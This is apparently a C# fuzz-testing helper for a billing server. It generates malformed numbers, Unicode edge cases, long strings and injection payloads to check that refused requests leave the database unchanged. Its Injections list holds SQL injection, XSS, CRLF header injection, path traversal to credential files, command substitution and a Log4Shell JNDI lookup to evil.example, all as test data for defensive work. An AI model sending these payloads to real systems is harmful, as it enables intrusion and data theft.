using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using Cloudbill.Core.Catalog;
using Cloudbill.Testing;
using FsCheck;
using FsCheck.Fluent;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Cloudbill.Server.Tests.Fuzz;

/// <summary>One field of a generated request: its name and its value, as sent (a name may come twice).</summary>
public sealed record FuzzField(string Name, string Value);

/// <summary>
/// What the fuzz tests send: hostile values (wrong types, extreme numbers, megabyte strings,
/// Unicode edge cases, injection strings) mixed with plausible ones, so that a good share of the
/// requests passes the first checks and reaches the rules behind them.
/// </summary>
public static class FuzzInputs
{
    /// <summary>
    /// Requests per surface and run: CLOUDBILL_FUZZ_REQUESTS, else <paramref name="fallback"/>
    /// (bounded for CI; README "Testing" has the command for a million).
    /// </summary>
    public static int Requests(int fallback) =>
        int.TryParse(Environment.GetEnvironmentVariable("CLOUDBILL_FUZZ_REQUESTS"), NumberStyles.None, CultureInfo.InvariantCulture, out var n) && n > 0 ? n : fallback;

    /// <summary>
    /// CLOUDBILL_FUZZ_SEED repeats a run. Without it, CI (CI=true) runs <see cref="CiSeed"/>, so a
    /// submission's result does not depend on the seed it happened to draw; anywhere else each run
    /// draws a new seed, which a failure names, to keep finding what CI's seed does not reach.
    /// </summary>
    public static ulong Seed() =>
        ulong.TryParse(Environment.GetEnvironmentVariable("CLOUDBILL_FUZZ_SEED"), NumberStyles.None, CultureInfo.InvariantCulture, out var seed)
            ? seed
            : string.Equals(Environment.GetEnvironmentVariable("CI"), "true", StringComparison.OrdinalIgnoreCase)
                ? CiSeed
                : BitConverter.ToUInt64(RandomNumberGenerator.GetBytes(8));

    /// <summary>The seed CI runs: one that found the renewal-method refusal that still saved (RenewalMethodChange.Save).</summary>
    public const ulong CiSeed = 476462149646954429;

    /// <summary><paramref name="count"/> values of <paramref name="gen"/> in batches (a million never sits in memory at once), reproducible from the seed.</summary>
    public static IEnumerable<T> Stream<T>(Gen<T> gen, ulong seed, int count)
    {
        const int Batch = 200;
        var batchNumber = 0UL;
        for (var done = 0; done < count; done += Batch)
        {
            foreach (var value in Gen.Sample(gen, Math.Min(Batch, count - done), new Rnd(seed + batchNumber++ * 7919), 30))
                yield return value;
        }
    }

    public static readonly string[] Numbers =
    [
        "0", "-1", "1", "2", "12", "13", "28", "29", "100", "1000", "1001", "1200", "1201",
        "2147483647", "2147483648", "-2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
        "-9223372036854775808", "99999999999999999999999999999", "1e309", "1E3", "NaN", "Infinity", "-0", "+1", " 1 ",
        "0x10", "1.5", "1,000", "0.001", "-0.01", "00000000000000000001", "١٢", "１２", "½", "1.005", "92233720368547758.07",
    ];

    public static readonly string[] Unicode =
    [
        "\uD800", "\uDFFF", "a\uD83Db", "\u202Eevil\u202C", "\u202Dx\u2066y\u2069", "\0", "a\0b", "\u0000\u0001\u001F\u007F",
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "👩‍👩‍👧‍👦", "🇨🇳🏳️‍🌈", "\uFEFF", "\uFFFE\uFFFF",
        "ｅｃｓ", "İı", "ß", "\u00A0", "\u2028\u2029", "\u200B\u200D", "中文名称", "مرحبا", "\t\r\n",
    ];

    public static readonly string[] Injections =
    [
        "' OR '1'='1", "1; DROP TABLE \"Orders\"; --", "\" OR \"\"=\"", "1 UNION SELECT * FROM \"Postings\"--", "%' --",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<!--", "]]>", "&amp;&lt;",
        "x\r\nSet-Cookie: evil=1", "x\r\nLocation: https://evil.example/", "%0d%0aX-Injected: 1", "\r\n\r\nHTTP/1.1 200 OK",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png", "%2e%2e%2f%2e%2e%2f", "//evil.example", "https://evil.example/",
        "%s%s%s%s%n", "{0}{1}{2}", "%d %x %p", "${jndi:ldap://evil.example/a}", "{{7*7}}", "@(1+1)", "$(id)", "`id`",
    ];

    public static readonly int[] LongLengths = [257, 4097, 65_537, 1_000_000];

    /// <summary>Text that is nothing in particular: any char, control and surrogate ones included.</summary>
    public static readonly Gen<string> RandomText =
        from length in Gen.Choose(0, 40)
        from chars in Gen.ArrayOf(Gen.Frequency(
            (6, Gen.Choose(0x20, 0x7E).Select(c => (char)c)),
            (2, Gen.Choose(0, 0x1F).Select(c => (char)c)),
            (2, Gen.Choose(0x80, 0xFFFF).Select(c => (char)c))), length)
        select new string(chars);

    /// <summary>A long string; a megabyte only where <paramref name="megabyte"/> (a body), since an address that long is refused by the web server itself.</summary>
    public static Gen<string> Long(bool megabyte) =>
        from length in Gen.Elements(megabyte ? LongLengths : LongLengths.Where(l => l < 4000).ToArray())
        from c in length > 100_000 ? Gen.Elements('x', '9') : Gen.Elements('x', '9', '中', '\'')
        select new string(c, length);

    /// <summary>Something hostile: a number out of range or of the wrong form, an edge of Unicode, an injection, random or very long text.</summary>
    public static Gen<string> Hostile(bool megabyte) => Gen.Frequency(
        (4, Gen.Elements(Numbers)),
        (3, Gen.Elements(Unicode)),
        (4, Gen.Elements(Injections)),
        (2, RandomText),
        (1, Long(megabyte)),
        (1, Gen.Constant("")));

    /// <summary>A value for a field: one of its plausible values (so the request goes further) or a hostile one.</summary>
    public static Gen<string> Value(string[] plausible, bool megabyte) => plausible.Length == 0
        ? Hostile(megabyte)
        : Gen.Frequency((5, Gen.Elements(plausible)), (5, Hostile(megabyte)));

    /// <summary>
    /// The fields of one request: each known field present or missing, sometimes twice, and now
    /// and then a field nobody asked for.
    /// </summary>
    public static Gen<FuzzField[]> Fields(IReadOnlyList<(string Name, string[] Plausible)> known, bool megabyte)
    {
        var each = known.Select(k =>
            from presence in Gen.Frequency((6, Gen.Constant(1)), (3, Gen.Constant(0)), (1, Gen.Constant(2)))
            from values in Gen.ArrayOf(Value(k.Plausible, megabyte), presence)
            select values.Select(v => new FuzzField(k.Name, v)).ToArray()).ToList();
        var extra =
            from count in Gen.Frequency((8, Gen.Constant(0)), (2, Gen.Constant(1)))
            from names in Gen.ArrayOf(Gen.Elements(Unicode.Concat(Injections).Append("Action").Append("__proto__").Append("Input").ToArray()), count)
            from values in Gen.ArrayOf(Hostile(megabyte), count)
            select names.Zip(values, (n, v) => new FuzzField(n, v)).ToArray();
        return each.Aggregate(Gen.Constant(Array.Empty<FuzzField>()), (all, next) =>
            from a in all
            from b in next
            select a.Concat(b).ToArray())
            .SelectMany(fields => extra.Select(more => fields.Concat(more).ToArray()));
    }

    /// <summary>Form encoding of the fields as UTF-8 (a lone surrogate becomes U+FFFD, as a browser sends it).</summary>
    public static string FormEncode(IEnumerable<FuzzField> fields) =>
        string.Join('&', fields.Select(f => Escape(f.Name) + "=" + Escape(f.Value)));

    public static string Escape(string text)
    {
        var bytes = new UTF8Encoding(false, false).GetBytes(text);
        var built = new StringBuilder(bytes.Length * 3);
        foreach (var b in bytes)
        {
            if (b is >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' or >= (byte)'0' and <= (byte)'9' or (byte)'-' or (byte)'_' or (byte)'.' or (byte)'~')
                built.Append((char)b);
            else
                built.Append('%').Append(b.ToString("X2", CultureInfo.InvariantCulture));
        }
        return built.ToString();
    }

    /// <summary>Shown in a failure: the request, with long values cut.</summary>
    public static string Describe(IEnumerable<FuzzField> fields) =>
        string.Join("&", fields.Select(f => f.Name + "=" + (f.Value.Length > 80 ? f.Value[..80] + $"…({f.Value.Length} chars)" : f.Value)));

    /// <summary>
    /// A hash of every row money, orders, coupons and instances live in (the ledger's postings
    /// and balances, orders and their lines, coupons, instances, gateway payments): equal hashes
    /// before and after a refused request mean it changed nothing.
    /// </summary>
    public static async Task<string> StateHash(TestServices services) =>
        Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(await services.Snapshot())));

    /// <summary>The names the demo customer's data uses, so that generated requests name real things.</summary>
    public sealed record Names(string[] InstanceIds, string[] OrderIds, string[] Products, string[] Regions, string[] Specs);

    public static async Task<Names> RealNames(TestServices services)
    {
        var instances = await services.Query(db => db.Instances.Select(i => i.Id).ToListAsync());
        var orders = await services.Query(db => db.Orders.Select(o => o.Id).ToListAsync());
        var catalog = services.Services.GetRequiredService<ProductCatalog>();
        return new Names(
            instances.Take(20).ToArray(),
            orders.Select(o => o.ToString(CultureInfo.InvariantCulture)).Take(20).ToArray(),
            catalog.Products.Select(p => p.Code).ToArray(),
            catalog.Regions.Select(r => r.Id).ToArray(),
            catalog.Products.SelectMany(p => p.Specs.Select(s => s.Code)).Distinct().Take(20).ToArray());
    }
}
